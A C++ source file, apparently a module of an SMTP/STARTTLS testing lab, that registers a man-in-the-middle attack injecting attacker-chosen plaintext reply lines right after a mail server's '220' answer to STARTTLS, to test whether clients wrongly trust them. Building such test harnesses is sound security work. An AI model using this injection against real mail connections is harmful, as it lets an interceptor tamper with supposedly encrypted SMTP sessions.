// inject-after-starttls: response injection (the client-side twin of CVE-2011-0411). Plaintext
// reply lines ride right behind the MX's "220 ready", before any TLS byte. A careful client
// throws them away when it starts TLS; a careless one later reads them as if they had come
// through the encrypted channel. Parameter `lines`: the injected lines, separated by '|'.
#include "basic_attack.hpp"

namespace stslab::mitm::attacks {

namespace {
class InjectAfterStarttls final : public BasicAttack {
 public:
  InjectAfterStarttls(AttackSpec spec, std::vector<std::string> lines)
      : BasicAttack(std::move(spec)), lines_(std::move(lines)) {}

  ReplyDecision on_reply(const Command& command, Reply& reply) const override {
    ReplyDecision d;
    if (!command.is("STARTTLS") || command.phase != Phase::plaintext || reply.code() != 220) {
      return d;
    }
    d.inject = lines_;
    d.action = "injected " + std::to_string(lines_.size()) + " lines after 220";
    d.details = {{"injected", lines_}};
    return d;
  }

 private:
  std::vector<std::string> lines_;
};

}  // namespace

void register_inject_after_starttls(AttackRegistry& registry) {
  // The registry has checked the lines against the schema (no CR or LF in any).
  registry.add(
      *find_builtin_attack("inject-after-starttls"), [](const AttackSpec& spec, const AttackEnv&) {
        auto lines = split_injected_lines(param_or(spec, "lines", "250 2.0.0 injected by mitm"));
        return std::make_shared<InjectAfterStarttls>(spec, std::move(lines));
      });
}

}  // namespace stslab::mitm::attacks
